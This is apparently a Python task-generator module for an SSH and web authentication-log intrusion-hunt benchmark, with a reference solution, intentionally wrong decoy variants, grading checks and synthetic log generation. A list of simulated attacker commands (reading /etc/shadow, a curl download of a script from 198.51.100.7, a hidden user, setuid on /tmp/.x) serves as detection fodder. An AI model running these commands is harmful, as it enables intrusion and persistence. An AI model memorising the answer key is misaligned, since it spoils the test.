"""Security: an authentication-log intrusion hunt, composed per instance.

The agent writes a reusable triage program `/srv/ir/hunt LOGDIR OUTDIR`, runs it on the collected evidence and
leaves its findings. An instance composes
- log sources (1-3): classic syslog `auth.log` (no year, host clock), RFC 3339 `auth.log` (offsets, microseconds),
  a `journalctl -o json` export (epoch microseconds, `sshd-session` identifiers), an auditd `audit.log` (epoch
  milliseconds, enriched fields, hex-encoded commands), an nginx access log of a basic-auth admin area (401
  challenges without a user are no failures);
- indicators (2-3): brute force (windowed threshold), password spraying (distinct accounts in a window),
  compromise (success after failures), sudo after compromise, off-hours logins (office zone, weekends), logins
  with keys not on file;
- traps (1-3): rotated and gzipped logs, rsyslog `message repeated` folding, a host clock across a DST change,
  syslog across New Year, an allowlisted scanner burst (a decoy benign burst), IPv4-mapped IPv6 addresses;
- deliverables (0-1): a blocklist (hosts.deny | ipset | nft), an attack timeline CSV, a fail2ban filter judged on
  held-out log lines.
Levels change the work: easy has one source, two indicators and one trap, and its ticket names every indicator and
flags the trap; medium has 1-2 sources, 2-3 indicators, 1-2 traps and a deliverable, and its ticket gives symptoms
and the definitions; hard has 2-3 sources, three indicators, 2-3 traps with an interacting pair (the trap changes
what the indicator finds) and a deliverable, and its ticket states the goal: the definitions live in the runbook
/srv/ir/RUNBOOK.md.
The oracle is that program written piece by piece (one piece per component, kit `oracle_and_decoys`); ground truth
comes from a reference over the generator's structured events, and every candidate decoy is run in-process on the
visible and the held-out logs so that only decoys known to miss are shipped. The tests hold the visible truth and
two held-out log sets (other hosts of the same fleet and incident window) with their truth, and run the agent's
program on those via tg_guard.run.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import io
import ipaddress
import json
import os
import random
import sys
import tempfile
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

from termigen.families import register
from termigen.families.base import Draft, Resample, dedent
from termigen.families.kit import Component, KitFamily, LevelConfig, compose, hidden_tests, oracle_and_decoys
from termigen.task import Decoy, Environment, File, Timeouts
from termigen.toolscan import tools_in

UTC = timezone.utc
HOSTS = ["bastion-2", "web-edge-01", "git-internal", "vpn-gw-3", "build-07", "db-proxy", "jump-eu-1", "mail-relay",
         "sftp-partners", "ci-master", "monitor-02", "backup-nas", "kiosk-api", "ledger-01", "wiki-int", "vault-fe"]
USERS = ["alice", "bjorn", "chidi", "dana", "emil", "fatima", "gwen", "hugo", "ingrid", "jamal", "kira", "lars",
         "mina", "nikos", "olga", "pavel", "rhea", "sami", "tova", "umar"]
SERVICE = ["deploy", "git", "backup", "ansible", "jenkins", "postgres"]
WEB_USERS = ["ops-dash", "grafana-admin", "reports", "kiosk", "billing-ro", "release-mgr", "auditor", "helpdesk"]
PROBES = ["root", "admin", "test", "oracle", "ubuntu", "user", "guest", "pi", "ftpuser", "support", "nagios", "hadoop"]
CMDS = ["/usr/bin/systemctl restart nginx", "/usr/bin/apt update", "/usr/bin/journalctl -u ssh", "/usr/sbin/ufw status",
        "/usr/bin/tail -n 50 /var/log/syslog", "/usr/bin/docker ps"]
EVIL = ["/usr/bin/cat /etc/shadow", "/usr/bin/id", "/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/.x",
        "/usr/sbin/useradd -m -s /bin/bash sysupd", "/usr/bin/crontab -l", "/usr/bin/chmod 4755 /tmp/.x"]
PREFIXES = ["/admin/", "/grafana/", "/jenkins/", "/private/"]
UAS = ["Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0", "curl/8.5.0", "python-requests/2.31.0",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15", "Go-http-client/1.1"]
DST_ZONES = ["Europe/Berlin", "America/New_York", "Europe/London", "America/Chicago", "Europe/Madrid"]
OFFICE_ZONES = ["Asia/Kolkata", "Asia/Tokyo", "America/Phoenix", "Asia/Singapore", "Asia/Dubai", "America/Bogota"]
MON = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
TAGS = {"web": "nginx", "journal": "journald", "audit": "auditd", "rotation": "log-rotation", "tz_dst": "timezones",
        "year_rollover": "timezones", "blocklist": "blocklist", "timeline": "timeline", "fail2ban": "fail2ban"}
FMT = {"hosts_deny": "hosts.deny", "ipset": "blocklist.ipset", "nft": "blocklist.nft"}

SOURCES = ["syslog", "iso", "journal", "audit", "web"]
DETECTORS = ["brute_force", "spray", "compromise", "sudo", "off_hours", "unknown_key"]
TRAPS = ["rotation", "repeated", "tz_dst", "year_rollover", "allowlist", "mapped_v4"]
DELIVERABLES = ["blocklist", "timeline", "fail2ban"]
ATTACKS = {"brute_force", "spray", "compromise"}
# The program's pieces run in this order whatever order they were drawn in (traps redefine helpers the sources
# use; the allowlist filters what the sources read; sudo reads the compromises; deliverables read the findings).
ORDER = ["rotation", "repeated", "tz_dst", "year_rollover", "mapped_v4", "syslog", "iso", "journal", "audit", "web",
         "allowlist", "brute_force", "spray", "compromise", "sudo", "off_hours", "unknown_key", "blocklist", "timeline",
         "fail2ban"]
# hard: one of these pairs, where the trap changes what the indicator finds
INTERACTING = [("tz_dst", "brute_force"), ("year_rollover", "brute_force"), ("allowlist", "compromise"),
               ("repeated", "brute_force"), ("mapped_v4", "brute_force"), ("tz_dst", "off_hours"),
               ("allowlist", "spray"), ("rotation", "compromise")]
SKILLS = {
    "syslog": "syslog timestamps (no year, host clock)", "iso": "RFC 3339 timestamps with offsets",
    "journal": "journalctl JSON export", "audit": "auditd records (epoch, hex-encoded fields)",
    "web": "nginx basic-auth access log",
    "brute_force": "sliding-window threshold", "spray": "distinct accounts in a window",
    "compromise": "success after failures", "sudo": "privilege escalation after compromise",
    "off_hours": "office-zone business hours", "unknown_key": "key fingerprints on file",
    "rotation": "rotated and gzipped logs", "repeated": "rsyslog message folding", "tz_dst": "DST on the host clock",
    "year_rollover": "syslog across New Year", "allowlist": "CIDR allowlist (benign burst)",
    "mapped_v4": "IPv4-mapped IPv6", "blocklist": "blocklist formats", "timeline": "attack timeline CSV",
    "fail2ban": "fail2ban failregex on held-out lines",
}

# ---------------------------------------------------------------------------------------------------------------
# The program the oracle writes: a head, one piece per component, a tail.

PROG = "/srv/ir/hunt"

HEAD_PY = r'''#!/usr/bin/env python3
"""hunt LOGDIR OUTDIR: triage the authentication logs collected in LOGDIR; findings go to OUTDIR."""
import csv, glob, gzip, ipaddress, json, os, re, sys
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo
LOGDIR, OUT = sys.argv[1], sys.argv[2]
os.makedirs(OUT, exist_ok=True)
EV = []  # (time in UTC, source, kind, address, account, detail)
F = {}  # findings.json
LOCAL = timezone.utc  # the host clock
YEAR = @YEAR@
W = timedelta(minutes=@W@)
PAM_COUNTS = False
def files(name):
    p = os.path.join(LOGDIR, name)
    return [p] if os.path.exists(p) else []
def lines(name):
    for p in files(name):
        with (gzip.open(p, "rt") if p.endswith(".gz") else open(p)) as f:
            yield from f.read().splitlines()
def norm_ip(s):
    return s
def folded(msg):
    return msg, 1
def syslog_year(mon):
    return YEAR
def stamp(t):
    return t.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
FAIL = re.compile(r"Failed (?:password|publickey) for (?:invalid user )?(\S+) from (\S+) port \d+")
ACC = re.compile(r"Accepted (\w+) for (\S+) from (\S+) port \d+ ssh2(?:: \S+ (\S+))?")
PAM = re.compile(r"authentication failure;.* rhost=(\S+)(?:\s+user=(\S+))?")
SUDO = re.compile(r"^\s*(\S+) : .*COMMAND=(.*)$")
def sshd(t, prog, msg):
    msg, n = folded(msg)
    if prog in ("sshd", "sshd-session"):
        m = FAIL.search(msg)
        if m:
            EV.extend([(t, "ssh", "fail", norm_ip(m.group(2)), m.group(1), "")] * n)
            return
        m = PAM.search(msg)
        if m and PAM_COUNTS:
            EV.append((t, "ssh", "fail", norm_ip(m.group(1)), m.group(2) or "?", ""))
        m = ACC.search(msg)
        if m:
            EV.append((t, "ssh", "accept", norm_ip(m.group(3)), m.group(2), m.group(4) or ""))
    elif prog == "sudo":
        m = SUDO.match(msg)
        if m:
            EV.append((t, "ssh", "sudo", "", m.group(1), m.group(2).strip()))
def fails_by_ip():
    d = {}
    for e in sorted(EV):
        if e[2] == "fail":
            d.setdefault(e[3], []).append(e)
    return d
def ip_key(s):
    a = ipaddress.ip_address(s)
    return a.version, a
def attackers():
    return sorted({a["ip"] for k in ("brute_force", "spraying", "compromised") for a in F.get(k, [])}, key=ip_key)
'''

TAIL_PY = r'''with open(os.path.join(OUT, "findings.json"), "w") as f:
    json.dump(F, f, indent=2, sort_keys=True)
'''

PIECES: dict[str, dict] = {
    "rotation": {"code": r'''
def files(name):
    found = glob.glob(os.path.join(glob.escape(LOGDIR), glob.escape(name)) + "*")
    def age(p):
        m = re.search(r"\.(\d+)(?:\.gz)?$", p)
        return -int(m.group(1)) if m else 0
    return sorted(found, key=age)
''', "wrong": {"no_gz": [('return sorted(found, key=age)',
                         'return sorted([p for p in found if not p.endswith(".gz")], key=age)')]}},
    "repeated": {"code": r'''
REPEAT = re.compile(r"^message repeated (\d+) times: \[ ?(.*?) ?\]$")
def folded(msg):
    m = REPEAT.match(msg)
    return (m.group(2), int(m.group(1))) if m else (msg, 1)
''', "wrong": {"one_more": [("int(m.group(1)))", "int(m.group(1)) + 1)")]}},
    "tz_dst": {"code": r'''
for l in lines("timedatectl.txt"):
    if "Time zone:" in l:
        LOCAL = ZoneInfo(l.split(":", 1)[1].split()[0])
''', "wrong": {"fixed_offset": [("LOCAL = ZoneInfo(l.split(\":\", 1)[1].split()[0])", "LOCAL = timezone(timedelta(hours=@STDOFF@))")]}},
    "year_rollover": {"code": r'''
_seen = [None, YEAR]
def syslog_year(mon):
    if _seen[0] is not None and mon < _seen[0]:
        _seen[1] += 1
    _seen[0] = mon
    return _seen[1]
'''},
    "mapped_v4": {"code": r'''
def norm_ip(s):
    a = ipaddress.ip_address(s)
    if a.version == 6 and a.ipv4_mapped:
        return str(a.ipv4_mapped)
    return str(a)
'''},
    "syslog": {"code": r'''
SYSLOG = re.compile(r"^(\w{3}) +(\d+) (\d\d):(\d\d):(\d\d) \S+ ([\w-]+)(?:\[\d+\])?: (.*)$")
MONTHS = {m: i for i, m in enumerate("Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split(), 1)}
for line in lines("auth.log"):
    m = SYSLOG.match(line)
    if m:
        mon = MONTHS[m.group(1)]
        t = datetime(syslog_year(mon), mon, int(m.group(2)), int(m.group(3)), int(m.group(4)), int(m.group(5)), tzinfo=LOCAL)
        sshd(t.astimezone(timezone.utc), m.group(6), m.group(7))
''', "wrong": {"counts_pam": [("for line in lines(\"auth.log\"):", "PAM_COUNTS = True\nfor line in lines(\"auth.log\"):")]}},
    "iso": {"code": r'''
ISO = re.compile(r"^(\d{4}-\d\d-\d\dT[\d:.]+(?:Z|[+-]\d\d:\d\d)) \S+ ([\w-]+)(?:\[\d+\])?: (.*)$")
for line in lines("auth.log"):
    m = ISO.match(line)
    if m:
        t = datetime.fromisoformat(m.group(1).replace("Z", "+00:00"))
        sshd(t.astimezone(timezone.utc), m.group(2), m.group(3))
''', "wrong": {"drops_offset": [('t = datetime.fromisoformat(m.group(1).replace("Z", "+00:00"))',
                                't = datetime.fromisoformat(m.group(1)[:26]).replace(tzinfo=timezone.utc)')],
               "rounds_seconds": [('sshd(t.astimezone(timezone.utc)',
                                   'sshd((t + timedelta(microseconds=500000)).replace(microsecond=0).astimezone(timezone.utc)')]}},
    "journal": {"code": r'''
EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)
for line in lines("journal.json"):
    e = json.loads(line)
    t = EPOCH + timedelta(microseconds=int(e["__REALTIME_TIMESTAMP"]))
    sshd(t, e.get("SYSLOG_IDENTIFIER", ""), e.get("MESSAGE", ""))
''', "wrong": {"sshd_only": [('sshd(t, e.get("SYSLOG_IDENTIFIER", ""), e.get("MESSAGE", ""))',
                             'if e.get("SYSLOG_IDENTIFIER") in ("sshd", "sudo"):\n        sshd(t, e["SYSLOG_IDENTIFIER"], e.get("MESSAGE", ""))')]}},
    "audit": {"code": r'''
AUD = re.compile(r"^type=(\w+) msg=audit\((\d+)\.(\d+):\d+\): (.*)$")
def field(text, name):
    m = re.search(r"(?:^|[\s'])" + name + r"=(\"[^\"]*\"|[^\s']+)", text)
    if not m:
        return ""
    v = m.group(1)
    if v.startswith('"'):
        return v.strip('"')
    try:  # auditd writes a value with blanks or quotes in hex
        return bytes.fromhex(v).decode()
    except ValueError:
        return v
for line in lines("audit.log"):
    m = AUD.match(line)
    if not m:
        continue
    kind, body = m.group(1), m.group(4)
    t = datetime.fromtimestamp(int(m.group(2)), timezone.utc) + timedelta(milliseconds=int(m.group(3)))
    if kind == "USER_AUTH" and field(body, "exe") == "/usr/sbin/sshd" and field(body, "res") == "failed":
        EV.append((t, "ssh", "fail", norm_ip(field(body, "addr")), field(body, "acct"), ""))
    elif kind == "USER_LOGIN" and field(body, "exe") == "/usr/sbin/sshd" and field(body, "res") == "success":
        EV.append((t, "ssh", "accept", norm_ip(field(body, "addr")), field(body, "ID"), ""))
    elif kind == "USER_CMD" and field(body, "exe") == "/usr/bin/sudo" and field(body, "res") == "success":
        EV.append((t, "ssh", "sudo", "", field(body, "AUID"), field(body, "cmd")))
''', "wrong": {"no_hex": [("        return bytes.fromhex(v).decode()", "        return v")],
               "auth_success_is_login": [('elif kind == "USER_LOGIN" and', 'elif kind in ("USER_LOGIN", "USER_AUTH") and')]}},
    "web": {"code": r'''
WEB = re.compile(r'^(\S+) \S+ (\S+) \[([^\]]+)\] "(\S+) (\S+) [^"]*" (\d{3}) ')
for line in lines("access.log"):
    m = WEB.match(line)
    if not m or not m.group(5).startswith("@PREFIX@") or m.group(2) == "-":
        continue
    t = datetime.strptime(m.group(3), "%d/%b/%Y:%H:%M:%S %z").astimezone(timezone.utc)
    status = int(m.group(6))
    if status == 401:
        EV.append((t, "web", "fail", norm_ip(m.group(1)), m.group(2), ""))
    elif 200 <= status < 400:
        EV.append((t, "web", "accept", norm_ip(m.group(1)), m.group(2), ""))
''', "wrong": {"counts_challenges": [(' or m.group(2) == "-":', ":")]}},
    "allowlist": {"code": r'''
NETS = []
for l in lines("allowlist.txt"):
    l = l.split("#")[0].strip()
    if l:
        NETS.append(ipaddress.ip_network(l, strict=False))
EV[:] = [e for e in EV if not (e[3] and any(ipaddress.ip_address(e[3]) in n for n in NETS))]
''', "wrong": {"octet_prefix": [('EV[:] = [e for e in EV if not (e[3] and any(ipaddress.ip_address(e[3]) in n for n in NETS))]',
                                'EV[:] = [e for e in EV if not (e[3] and any(e[3].startswith(str(n.network_address).rsplit(".", 1)[0] + ".") for n in NETS))]')]}},
    "brute_force": {"code": r'''
T = @T@
bf = []
for ip, es in sorted(fails_by_ip().items()):
    ts = [e[0] for e in es]
    if any(ts[i + T - 1] - ts[i] < W for i in range(len(ts) - T + 1)):
        bf.append({"ip": ip, "first_seen": stamp(ts[0]), "failures": len(ts)})
F["brute_force"] = sorted(bf, key=lambda a: (a["first_seen"], a["ip"]))
''', "wrong": {"total_count": [("if any(ts[i + T - 1] - ts[i] < W for i in range(len(ts) - T + 1)):",
                               "if len(ts) >= T:")],
               "off_by_one": [("T = @T@", "T = @T@ + 1")]}},
    "spray": {"code": r'''
U = @U@
sp = []
for ip, es in sorted(fails_by_ip().items()):
    if any(len({x[4] for x in es[i:] if x[0] - es[i][0] < W}) >= U for i in range(len(es))):
        sp.append({"ip": ip, "first_seen": stamp(es[0][0]), "accounts": len({x[4] for x in es})})
F["spraying"] = sorted(sp, key=lambda a: (a["first_seen"], a["ip"]))
''', "wrong": {"counts_attempts": [("len({x[4] for x in es[i:] if x[0] - es[i][0] < W})",
                                   "len([x[4] for x in es[i:] if x[0] - es[i][0] < W])")]}},
    "compromise": {"code": r'''
NF = @NF@
comp, done = [], set()
for e in sorted(EV):
    if e[2] == "accept" and (e[4], e[3]) not in done:
        if sum(1 for x in EV if x[2] == "fail" and x[3] == e[3] and x[0] < e[0]) >= NF:
            done.add((e[4], e[3]))
            comp.append({"user": e[4], "ip": e[3], "time": stamp(e[0])})
F["compromised"] = sorted(comp, key=lambda c: (c["time"], c["user"], c["ip"]))
''', "wrong": {"any_failure": [("NF = @NF@", "NF = 1")],
               "failures_any_time": [(" and x[0] < e[0]) >= NF", ") >= NF")]}},
    "sudo": {"code": r'''
since = {}
for c in F["compromised"]:
    since.setdefault(c["user"], c["time"])
F["sudo_after_compromise"] = [{"user": e[4], "time": stamp(e[0]), "command": e[5]} for e in sorted(EV)
                              if e[2] == "sudo" and e[4] in since and stamp(e[0]) >= since[e[4]]]
''', "wrong": {"any_time": [(" and stamp(e[0]) >= since[e[4]]", "")]}},
    "off_hours": {"code": r'''
OFFICE = ZoneInfo("@OFFICE@")
def working(t):
    l = t.astimezone(OFFICE)
    return l.weekday() < 5 and @H1@ <= l.hour < @H2@
F["off_hours_logins"] = [{"user": e[4], "ip": e[3], "time": stamp(e[0])} for e in sorted(EV)
                         if e[1] == "ssh" and e[2] == "accept" and not working(e[0])]
''', "wrong": {"utc_clock": [("l = t.astimezone(OFFICE)", "l = t.astimezone(timezone.utc)")],
               "ignores_weekend": [("return l.weekday() < 5 and ", "return ")]}},
    "unknown_key": {"code": r'''
KNOWN = set()
for l in lines("known_keys.txt"):
    p = l.split()
    if len(p) >= 2 and not l.startswith("#"):
        KNOWN.add((p[0], p[1]))
F["unknown_keys"] = [{"user": e[4], "ip": e[3], "time": stamp(e[0]), "fingerprint": e[5]} for e in sorted(EV)
                     if e[1] == "ssh" and e[2] == "accept" and e[5] and (e[4], e[5]) not in KNOWN]
''', "wrong": {"any_account": [("and (e[4], e[5]) not in KNOWN]", "and e[5] not in {k[1] for k in KNOWN}]")]}},
    "blocklist": {"code": r'''
with open(os.path.join(OUT, "@FILE@"), "w") as f:
    for ip in attackers():
        v6 = ipaddress.ip_address(ip).version == 6
        f.write(@LINE@)
''', "wrong": {"brute_force_only": [("for ip in attackers():",
                                    "for ip in sorted({a['ip'] for a in F.get('brute_force', F.get('spraying', []))}, key=ip_key):")],
               "v6_as_v4": [("v6 = ipaddress.ip_address(ip).version == 6", "v6 = False")]}},
    "timeline": {"code": r'''
BAD = set(attackers())
rows = sorted((stamp(e[0]), e[1], e[3], e[4], {"fail": "failed", "accept": "accepted"}[e[2]]) for e in EV
              if e[2] in ("fail", "accept") and e[3] in BAD)
with open(os.path.join(OUT, "timeline.csv"), "w", newline="") as f:
    w = csv.writer(f)
    w.writerow(["time", "source", "ip", "user", "event"])
    w.writerows(rows)
''', "wrong": {"failures_only": [('if e[2] in ("fail", "accept") and e[3] in BAD)', 'if e[2] == "fail" and e[3] in BAD)')]}},
}
BLOCK_LINE = {
    "hosts_deny": '(f"sshd: [{ip}]\\n" if v6 else f"sshd: {ip}\\n")',
    "ipset": '(f"add ir-block6 {ip}\\n" if v6 else f"add ir-block4 {ip}\\n")',
    "nft": '(f"add element inet filter ir_block6 {{ {ip} }}\\n" if v6 else f"add element inet filter ir_block4 {{ {ip} }}\\n")',
}


FILTER = "/srv/ir/filter.d/ir-auth.conf"
F2B_SSH = r"sshd(?:-session)?\[\d+\]: Failed (?:password|publickey) for (?:invalid user )?\S+ from <HOST> port \d+ ssh2$"
F2B_WEB = r'^<HOST> \S+ (?!-\s)\S+ \[[^\]]+\] "\S+ @PREFIX@\S* [^"]*" 401 '
F2B = {"code": f"""
mkdir -p /srv/ir/filter.d
cat > {FILTER} <<'F2B'
[Definition]
failregex = @FAILREGEX@
ignoreregex =
F2B
""", "wrong": {
    "matches_pam": [("ignoreregex =", "            authentication failure;.* rhost=<HOST>\nignoreregex =")],
    "misses_invalid_user": [("for (?:invalid user )?\\S+ from", "for \\S+ from")],
    "counts_challenges": [("(?!-\\s)\\S+ \\[", "\\S+ \\[")]}}


def _f2b(P: dict) -> str:
    rx = ([F2B_SSH] if set(P["sources"]) & {"syslog", "iso"} else []) + ([F2B_WEB] if "web" in P["sources"] else [])
    return "\n            ".join(rx).replace("@PREFIX@", P["prefix"])


def _heredoc(code: str) -> str:
    return f"cat >> {PROG} <<'PY'\n{code.strip(chr(10))}\nPY\n" if code.strip() else ""


def _fill(code: str, P: dict) -> str:
    subs = {"@YEAR@": P["year"], "@W@": P["W"], "@T@": P["T"], "@U@": P["U"], "@NF@": P["NF"], "@ZONE@": P["zone"],
            "@STDOFF@": P["stdoff"], "@OFFICE@": P["office"], "@H1@": P["hours"][0], "@H2@": P["hours"][1],
            "@PREFIX@": P["prefix"], "@FILE@": FMT[P["fmt"]], "@LINE@": BLOCK_LINE[P["fmt"]]}
    for k, v in subs.items():
        code = code.replace(k, str(v))
    return code


def _variant(name: str, wrong) -> str:
    code = PIECES[name]["code"]
    for a, b in wrong:
        assert a in code, (name, a)
        code = code.replace(a, b)
    return code


def _pieces(names: list[str], P: dict, wrongs: dict[str, list[str]] | None = None) -> list[Component]:
    """The drawn components in program order; `wrongs` limits each one's wrong fixes (None: all)."""
    out = []
    for n in sorted(names, key=ORDER.index):
        if n == "fail2ban":  # a filter file, not a piece of the program
            text = F2B["code"].replace("@FAILREGEX@", _f2b(P))
            keep = sorted(F2B["wrong"]) if wrongs is None else wrongs.get(n, [])
            var = {}
            for k in keep:
                v = text
                for a, b in F2B["wrong"][k]:
                    v = v.replace(a, b)
                if v != text:
                    var[k] = v
            out.append(Component(n, fix=text, skill=SKILLS[n], wrong=var))
            continue
        w = PIECES[n].get("wrong", {})
        keep = sorted(w) if wrongs is None else wrongs.get(n, [])
        out.append(Component(n, fix=_heredoc(_fill(PIECES[n]["code"], P)), skill=SKILLS[n],
                             wrong={k: _heredoc(_fill(_variant(n, w[k]), P)) for k in keep}))
    return out


def _head(logdir: str, P: dict) -> str:
    return f"mkdir -p /srv/ir/out\ncat > {PROG} <<'PY'\n{_fill(HEAD_PY, P).rstrip()}\nPY\n"


def _tail(logdir: str) -> str:
    return (f"{_heredoc(TAIL_PY)}chmod 755 {PROG}\n{PROG} {logdir} /srv/ir/out\n"
            "jq -r 'to_entries[] | \"\\(.key): \\(.value | length)\"' /srv/ir/out/findings.json\n")


def program_of(script: str) -> str:
    """The program a solve script (oracle or decoy) writes to PROG: its heredoc bodies, in order."""
    out, lines, i = [], script.splitlines(), 0
    while i < len(lines):
        if lines[i] in (f"cat > {PROG} <<'PY'", f"cat >> {PROG} <<'PY'"):
            i += 1
            while lines[i] != "PY":
                out.append(lines[i])
                i += 1
        i += 1
    return "\n".join(out) + "\n"


def run_program(program: str, logdir: str, outdir: str) -> None:
    """Run the hunt program in this process (generation checks its decoys; `termigen` stays container-free)."""
    argv, out = sys.argv, io.StringIO()
    sys.argv = [PROG, logdir, outdir]
    try:
        with contextlib.redirect_stdout(out):
            exec(compile(program, PROG, "exec"), {"__name__": "__main__"})
    finally:
        sys.argv = argv


# ---------------------------------------------------------------------------------------------------------------
# The checks: one text, run by the tests on the agent's outputs and by the generator on each decoy's.

CHECK = r'''
def _blocklist(path, fmt):
    pat = {"hosts_deny": r"^sshd\s*:\s*(\[[0-9a-fA-F:]+\]|[0-9.]+)\s*$",
           "ipset": r"^add\s+(ir-block4|ir-block6)\s+(\S+)(?:\s+-exist)?\s*$",
           "nft": r"^add\s+element\s+inet\s+filter\s+(ir_block4|ir_block6)\s*\{\s*([^}]*?)\s*\}\s*;?\s*$"}[fmt]
    got, bad = [], []
    with open(path) as f:
        for line in f:
            s = line.strip()
            if not s or s.startswith("#") or (fmt == "ipset" and s.startswith("create ")):
                continue
            m = re.match(pat, s)
            if not m:
                bad.append(s)
                continue
            if fmt == "hosts_deny":
                a = m.group(1)
                v6 = a.startswith("[")
                items = [(a.strip("[]"), v6)]
            else:
                v6 = m.group(1).endswith("6")
                items = [(x.strip(), v6) for x in m.group(2).split(",") if x.strip()]
            for a, v6 in items:
                try:
                    ok = ipaddress.ip_address(a).version == (6 if v6 else 4)
                except ValueError:
                    ok = False
                (got if ok else bad).append(a)
    return got, bad


def problems(out, truth, fmt):
    """What is wrong in the outputs under `out` against `truth` (an empty list: all right)."""
    p = os.path.join(out, "findings.json")
    if not os.path.isfile(p):
        return ["findings.json is missing"]
    try:
        with open(p) as f:
            got = json.load(f)
    except (ValueError, UnicodeDecodeError) as e:
        return [f"findings.json does not parse: {e}"]
    if not isinstance(got, dict):
        return ["findings.json is not an object"]
    msgs = []
    for key, want in sorted(truth["findings"].items()):
        have = got.get(key)
        if not isinstance(have, list) or not all(isinstance(x, dict) for x in have):
            msgs.append(f"findings.json: {key} is not a list of objects")
            continue
        fields = sorted(want[0])
        norm = [{k: x.get(k) for k in fields} for x in have]
        if norm != want:
            miss = [w for w in want if w not in norm][:3]
            extra = [x for x in norm if x not in want][:3]
            msgs.append(f"findings.json: {key} differs (missing {miss}, unexpected {extra}"
                        + (", or out of order)" if not miss and not extra else ")"))
    if "blocklist" in truth:
        p = os.path.join(out, BLOCKFILE)
        if not os.path.isfile(p):
            msgs.append(f"{BLOCKFILE} is missing")
        else:
            have, bad = _blocklist(p, fmt)
            if bad:
                msgs.append(f"{BLOCKFILE}: lines or addresses not in the stated format: {bad[:3]}")
            if sorted(set(have)) != sorted(truth["blocklist"]) or len(have) != len(set(have)):
                msgs.append(f"{BLOCKFILE}: missing {sorted(set(truth['blocklist']) - set(have))[:4]}, "
                            f"unexpected {sorted(set(have) - set(truth['blocklist']))[:4]}, repeated: {len(have) != len(set(have))}")
    if "timeline" in truth:
        p = os.path.join(out, "timeline.csv")
        if not os.path.isfile(p):
            msgs.append("timeline.csv is missing")
        else:
            with open(p, newline="") as f:
                rows = [r for r in csv.reader(f) if r]
            want = [["time", "source", "ip", "user", "event"]] + [list(r) for r in truth["timeline"]]
            if rows != want:
                n = next((i for i, (a, b) in enumerate(zip(rows, want)) if a != b), min(len(rows), len(want)))
                msgs.append(f"timeline.csv: {len(rows) - 1} rows for {len(want) - 1}; first difference at row {n}: "
                            f"{rows[n] if n < len(rows) else None} for {want[n] if n < len(want) else None}")
    return msgs


HOSTRX = r"(?P<host>[0-9A-Fa-f.:]*[0-9A-Fa-f])"


def filter_problems(path, cases):
    """How a fail2ban filter judges held-out lines: a failregex matches (<HOST>: the address), no ignoreregex does."""
    if not os.path.isfile(path):
        return [f"{path} is missing"]
    cp = configparser.ConfigParser(interpolation=None, strict=False)
    try:
        cp.read(path)
        fail = cp.get("Definition", "failregex")
        ign = cp.get("Definition", "ignoreregex", fallback="")
    except (configparser.Error, UnicodeDecodeError) as e:
        return [f"{path}: not a filter with [Definition] failregex ({e})"]
    def compiled(text):
        out = []
        for l in text.splitlines():
            l = l.strip()
            if l:
                out.append(re.compile(l.replace("<HOST>", HOSTRX, 1).replace("<HOST>", "(?:[0-9A-Fa-f.:]+)")))
        return out
    try:
        fails, ignores = compiled(fail), compiled(ign)
    except re.error as e:
        return [f"{path}: a regex does not compile: {e}"]
    bad = []
    for line, want in cases:
        got = None
        if not any(i.search(line) for i in ignores):
            for f in fails:
                m = f.search(line)
                if m:
                    try:
                        a = ipaddress.ip_address(m.group("host"))
                        got = str(getattr(a, "ipv4_mapped", None) or a)
                    except (ValueError, IndexError):
                        got = "(no address)"
                    break
        if got != want:
            bad.append((line[:160], got, want))
    if bad:
        return [f"{path}: {len(bad)} of {len(cases)} held-out lines judged wrong (line, flagged, expected): {bad[:3]}"]
    return []
'''
_check_ns: dict = {}
exec("import configparser, csv, ipaddress, json, os, re\n" + CHECK, _check_ns)


def _problems(out: str, truth: dict, fmt: str) -> list[str]:
    _check_ns["BLOCKFILE"] = FMT[fmt]
    return _check_ns["problems"](out, truth, fmt)


# ---------------------------------------------------------------------------------------------------------------
# One world: the events on one host over the incident window, its log files and its truth.

def _pack(data: bytes) -> str:
    return base64.b64encode(gzip.compress(data, mtime=0)).decode()


def _unpack(s: str) -> bytes:
    return gzip.decompress(base64.b64decode(s))


class World:
    def __init__(self, rng: random.Random, P: dict, names: set, host: str):
        self.rng, self.P, self.names, self.host = rng, P, names, host
        self.ev: list[dict] = []
        self.noise: list[tuple] = []  # (time, source, line-maker args)
        self.used: set[str] = set()
        self.pid = rng.randint(1200, 9000)
        S = P["sources"]
        self.ssh = [s for s in S if s != "web"]
        self.web = "web" in S
        self.hostz = ZoneInfo(P["zone"]) if "tz_dst" in names else UTC
        self.mapped = P.get("mapped_src") if "mapped_v4" in names else None

    # -- small draws ----------------------------------------------------------------------------------------
    def t(self, a: datetime, b: datetime) -> datetime:
        return a + timedelta(seconds=self.rng.randint(0, max(0, int((b - a).total_seconds()))))

    def ip(self, kind: str = "ext") -> str:
        r = self.rng
        while True:
            if kind == "int":
                ip = f"10.{r.randint(1, 60)}.{r.randint(0, 255)}.{r.randint(2, 254)}"
            elif kind == "v6":
                ip = f"2001:db8:{r.randint(1, 0xffff):x}:{r.randint(0, 0xffff):x}::{r.randint(1, 0xfff):x}"
            else:
                first = r.choice([23, 31, 45, 61, 77, 89, 103, 111, 134, 146, 159, 171, 185, 193, 201, 212, 218])
                ip = f"{first}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
            if ip not in self.used:
                self.used.add(ip)
                return ip

    def spid(self) -> int:
        self.pid += self.rng.randint(1, 37)
        return self.pid

    def add(self, t, src, kind, ip, user, **kw) -> dict:
        if src in ("syslog", "web"):
            t = t.replace(microsecond=0)
        elif src == "audit":  # milliseconds; no key fingerprints in audit records
            t = t.replace(microsecond=t.microsecond // 1000 * 1000 or self.rng.randint(1, 999) * 1000)
            if kw.get("fp"):
                kw["fp"] = ""
        elif kw.pop("micro", True) and t.microsecond == 0:
            t = t.replace(microsecond=self.rng.randint(1, 999999))
